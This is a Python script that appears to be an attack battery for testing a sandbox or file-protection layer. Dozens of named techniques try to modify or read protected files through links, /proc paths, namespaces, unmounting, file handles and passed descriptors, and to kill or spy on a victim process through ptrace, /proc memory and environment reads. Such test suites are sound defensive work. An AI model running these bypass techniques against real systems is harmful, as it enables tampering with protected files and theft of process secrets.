# Attacks in Python: one line of input each, as "number, mechanism, target, spare" with tabs between.
import ctypes, fcntl, mmap, os, shutil, signal, socket, struct, subprocess, sys, time

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *words):
    if libc.syscall(number, *words) < 0:
        raise OSError(ctypes.get_errno(), "refused")


def text(path, flags=os.O_RDONLY, folder=None):
    file = os.open(path, flags, dir_fd=folder)
    return os.read(file, 4096).decode()


def put(path, flags=os.O_WRONLY, folder=None):
    file = os.open(path, flags, 0o600, dir_fd=folder)
    os.write(file, b"taken")


def split(path):
    return os.open(os.path.dirname(path), os.O_RDONLY | os.O_DIRECTORY), os.path.basename(path)


def spare_file(spare):
    with open(spare, "w") as file:
        file.write("taken")


def in_child(action):
    child = os.fork()
    if child == 0:
        try:
            action()
        finally:
            os._exit(0)
    os.waitpid(child, 0)


def left_behind(action):
    """By a process that nobody waits for, whose parent is gone."""

    def start():
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.05)
            action()

    in_child(start)


def over_socket(path, flags):
    ours, theirs = socket.socketpair()

    def send():
        file = os.open(path, flags)
        socket.send_fds(theirs, [b"x"], [file])

    in_child(send)
    ours.settimeout(1)
    return socket.recv_fds(ours, 1, 1)[1][0]


def change_mapped(target):
    file = os.open(target, os.O_RDWR)
    with mmap.mmap(file, 0) as memory:
        memory[0:1] = b"!"


def change_copied(target, spare):
    spare_file(spare)
    out = os.open(target, os.O_WRONLY)
    os.copy_file_range(os.open(spare, os.O_RDONLY), out, 5)


def change_spliced(target, spare):
    reading, writing = os.pipe()
    os.write(writing, b"taken")
    os.splice(reading, os.open(target, os.O_WRONLY), 5)


def change_sent(target, spare):
    spare_file(spare)
    os.sendfile(os.open(target, os.O_WRONLY), os.open(spare, os.O_RDONLY), 0, 5)


def change_exchanged(target, spare):
    spare_file(spare)
    number = {"x86_64": 316, "aarch64": 276}[os.uname().machine]
    call(number, -100, spare.encode(), -100, target.encode(), 2)


def change_chroot(target, spare):
    def act():
        os.chroot("/proc/self/root")
        put(target)

    in_child(act)


def change_folder_moved(target, spare):
    folder = os.path.dirname(target)
    os.rename(folder, spare)
    shutil.copytree(spare, folder)
    put(target)


def in_name_spaces(target):
    """Makes name spaces in which it is root, and mounts everything anew."""

    def act():
        if os.getuid() != 0:
            libc.unshare(0x10000000)
        if libc.unshare(0x00020000) != 0:
            libc.unshare(0x10000000 | 0x00020000)
        libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None)
        libc.mount(None, b"/", None, 0x20 | 0x1000, None)
        folder = os.path.dirname(target).encode()
        libc.mount(None, folder, None, 0x20 | 0x1000, None)
        libc.umount2(target.encode(), 2)
        libc.umount2(folder, 2)
        put(target)

    in_child(act)


CHANGE = {
    "open": lambda t, s: put(t),
    "append": lambda t, s: put(t, os.O_WRONLY | os.O_APPEND),
    "empty-open": lambda t, s: os.open(t, os.O_WRONLY | os.O_TRUNC),
    "empty-read-only": lambda t, s: os.open(t, os.O_RDONLY | os.O_TRUNC),
    "truncate": lambda t, s: os.truncate(t, 0),
    "folder-file": lambda t, s: (lambda f: put(f[1], folder=f[0]))(split(t)),
    "up-from-project": lambda t, s: put(os.path.relpath(t)),
    "proc-root": lambda t, s: put("/proc/self/root" + t),
    "proc-cwd": lambda t, s: put("/proc/self/cwd/" + os.path.relpath(t)),
    "path-file": lambda t, s: put("/proc/self/fd/%d" % os.open(t, os.O_PATH)),
    "other-name": lambda t, s: (os.link(t, s), put(s)),
    "link": lambda t, s: (os.symlink(t, s), put(s)),
    "link-to-folder": lambda t, s: (os.symlink(os.path.dirname(t), s), put(s + "/" + os.path.basename(t))),
    "replaced": lambda t, s: (spare_file(s), os.replace(s, t)),
    "moved-away": lambda t, s: os.rename(t, s),
    "deleted": lambda t, s: os.unlink(t),
    "mapped": lambda t, s: change_mapped(t),
    "copied": change_copied,
    "spliced": change_spliced,
    "sent": change_sent,
    "exchanged": change_exchanged,
    "holes": lambda t, s: os.posix_fallocate(os.open(t, os.O_WRONLY), 0, 10000),
    "child": lambda t, s: in_child(lambda: put(t)),
    "left-behind": lambda t, s: left_behind(lambda: put(t)),
    "handed-over": lambda t, s: os.write(over_socket(t, os.O_WRONLY), b"taken"),
    "chroot": change_chroot,
    "mounted-anew": lambda t, s: in_name_spaces(t),
    "folder-moved": change_folder_moved,
    "folder-deleted": lambda t, s: shutil.rmtree(os.path.dirname(t)),
}


def make_unnamed(target):
    file = os.open(os.getcwd(), os.O_TMPFILE | os.O_RDWR, 0o600)
    os.write(file, b"taken")
    libc.linkat(-100, b"/proc/self/fd/%d" % file, -100, target.encode(), 0x400)


def make_socket(target):
    folder = os.open(os.path.dirname(target), os.O_RDONLY)
    server = socket.socket(socket.AF_UNIX)
    server.bind("/proc/self/fd/%d/%s" % (folder, os.path.basename(target)))


MAKE = {
    "create": lambda t, s: put(t, os.O_WRONLY | os.O_CREAT),
    "create-exclusive": lambda t, s: put(t, os.O_WRONLY | os.O_CREAT | os.O_EXCL),
    "create-in-folder-file": lambda t, s: (lambda f: put(f[1], os.O_WRONLY | os.O_CREAT, f[0]))(split(t)),
    "folder": lambda t, s: os.mkdir(t),
    "linked": lambda t, s: os.symlink("/etc/hostname", t),
    "named-again": lambda t, s: (spare_file(s), os.link(s, t)),
    "moved-in": lambda t, s: (spare_file(s), os.rename(s, t)),
    "folder-moved-in": lambda t, s: (os.mkdir(s), os.rename(s, t)),
    "pipe": lambda t, s: os.mkfifo(t),
    "socket": lambda t, s: make_socket(t),
    "unnamed": lambda t, s: make_unnamed(t),
    "through-dangling-link": lambda t, s: (os.symlink(t, s), put(s, os.O_WRONLY | os.O_CREAT)),
    "made-left-behind": lambda t, s: left_behind(lambda: put(t, os.O_WRONLY | os.O_CREAT)),
    "tree-copied": lambda t, s: (os.mkdir(s), spare_file(s + "/x"), shutil.copytree(s, t)),
}


def read_mapped(target):
    with mmap.mmap(os.open(target, os.O_RDONLY), 0, prot=mmap.PROT_READ) as memory:
        return memory[:].decode()


def read_sent(target):
    reading, writing = os.pipe()
    os.sendfile(writing, os.open(target, os.O_RDONLY), 0, 100)
    return os.read(reading, 100).decode()


def read_moved(target, spare):
    os.rename(os.path.dirname(target), spare)
    return text(spare + "/" + os.path.basename(target))


def read_unmounted(target):
    def act():
        libc.unshare(0x10000000 | 0x00020000) if os.getuid() else libc.unshare(0x00020000)
        for path in (target, os.path.dirname(target)):
            libc.umount2(path.encode(), 2)
        print(text(target), flush=True)

    in_child(act)


def read_handle(target):
    """By the number of the file, which names it past every mount."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, target.encode(), handle, ctypes.byref(mount), 0) < 0:
        raise OSError(ctypes.get_errno(), "refused")
    file = libc.open_by_handle_at(os.open(os.getcwd(), os.O_RDONLY), handle, os.O_RDONLY)
    if file < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return os.read(file, 100).decode()


READ = {
    "read": lambda t, s: text(t),
    "read-folder-file": lambda t, s: (lambda f: text(f[1], folder=f[0]))(split(t)),
    "read-up-from-project": lambda t, s: text(os.path.relpath(t)),
    "read-proc-root": lambda t, s: text("/proc/self/root" + t),
    "read-path-file": lambda t, s: text("/proc/self/fd/%d" % os.open(t, os.O_PATH)),
    "read-by-link": lambda t, s: (os.symlink(t, s), text(s))[1],
    "read-by-other-name": lambda t, s: (os.link(t, s), text(s))[1],
    "read-mapped": lambda t, s: read_mapped(t),
    "read-sent": lambda t, s: read_sent(t),
    "read-copied": lambda t, s: (shutil.copyfile(t, s), text(s))[1],
    "read-moved": read_moved,
    "read-child": lambda t, s: subprocess.run(["cat", t], capture_output=True).stdout.decode(),
    "read-handed-over": lambda t, s: os.read(over_socket(t, os.O_RDONLY), 100).decode(),
    "read-unmounted": lambda t, s: read_unmounted(t),
    "read-handle": lambda t, s: read_handle(t),
    "read-to-write": lambda t, s: text(t, os.O_RDWR),
}

RIGHTS = {
    "mode": lambda t, s: os.chmod(t, 0o777),
    "mode-file": lambda t, s: os.fchmod(os.open(t, os.O_RDONLY), 0o777),
    "times": lambda t, s: os.utime(t, (1, 1)),
}


def process(action):
    return lambda target, spare: action(int(target))


def traced(pid):
    if libc.ptrace(16, pid, 0, 0) < 0:
        raise OSError(ctypes.get_errno(), "refused")
    os.waitpid(pid, 0x40000000)
    said = text("/proc/%d/environ" % pid)
    libc.ptrace(17, pid, 0, 0)
    return said


def memory_of(pid):
    with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "rb", 0) as memory:
        for line in maps:
            if "[stack]" not in line:
                continue
            start, end = (int(one, 16) for one in line.split()[0].split("-"))
            memory.seek(start)
            found = memory.read(end - start)
            at = found.find(b"VICTIM=")
            return found[at : at + 60].decode()


def read_memory_by_call(pid):
    with open("/proc/%d/maps" % pid) as maps:
        line = next(one for one in maps if "[stack]" in one)
    start, end = (int(one, 16) for one in line.split()[0].split("-"))
    buffer = ctypes.create_string_buffer(end - start)
    ours = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), end - start)
    theirs = (ctypes.c_size_t * 2)(start, end - start)
    if libc.process_vm_readv(pid, ours, 1, theirs, 1, 0) < 0:
        raise OSError(ctypes.get_errno(), "refused")
    at = buffer.raw.find(b"VICTIM=")
    return buffer.raw[at : at + 60].decode()


def owner_signalled(pid):
    """Has the kernel send a signal for input that arrives."""
    ours, theirs = socket.socketpair()
    ours.setblocking(False)
    fcntl.fcntl(ours, 10, signal.SIGKILL)
    fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
    fcntl.fcntl(ours, fcntl.F_SETFL, fcntl.fcntl(ours, fcntl.F_GETFL) | os.O_ASYNC)
    theirs.send(b"x")


def limited(pid):
    import resource

    resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0))


END = {
    "kill": process(lambda pid: os.kill(pid, 9)),
    "kill-group": process(lambda pid: os.killpg(os.getpgid(pid), 9)),
    "kill-by-file": process(lambda pid: signal.pidfd_send_signal(os.pidfd_open(pid), 9)),
    "kill-by-folder": process(lambda pid: signal.pidfd_send_signal(os.open("/proc/%d" % pid, os.O_RDONLY), 9)),
    "kill-thread": process(lambda pid: call({"x86_64": 234, "aarch64": 131}[os.uname().machine], pid, pid, 9)),
    "kill-child": process(lambda pid: in_child(lambda: os.kill(pid, 9))),
    "kill-left-behind": process(lambda pid: left_behind(lambda: os.kill(pid, 9))),
    "kill-by-owner": process(owner_signalled),
    "limit": process(limited),
}
SLOW = {"slow": process(lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19))}
SPY = {
    "trace": process(traced),
    "memory": process(memory_of),
    "memory-by-call": process(read_memory_by_call),
    "environment": process(lambda pid: text("/proc/%d/environ" % pid)),
    "its-root": lambda t, s: text("/proc/%s/root%s" % (t, s)),
    "its-folder": lambda t, s: text("/proc/%s/cwd/%s" % (t, os.path.basename(s))),
    "its-file": process(lambda pid: text("/proc/%d/fd/0" % pid)),
}

ALL = {
    **CHANGE,
    **MAKE,
    **READ,
    **RIGHTS,
    **END,
    **SLOW,
    **SPY,
}
KINDS = {"change": CHANGE, "make": MAKE, "read": READ, "rights": RIGHTS, "end": END, "slow": SLOW, "spy": SPY}

if sys.argv[1:] == ["--list"]:
    for kind, table in KINDS.items():
        for name in table:
            print(kind, name)
else:
    for line in sys.stdin.read().splitlines():
        number, name, target, spare = line.split("\t")
        sys.stdout.flush()
        try:
            said = ALL[name](target, spare)
            if isinstance(said, str):
                print(number, said, flush=True)
        except Exception as error:
            print(number, type(error).__name__, error, file=sys.stderr)
    time.sleep(0.2)
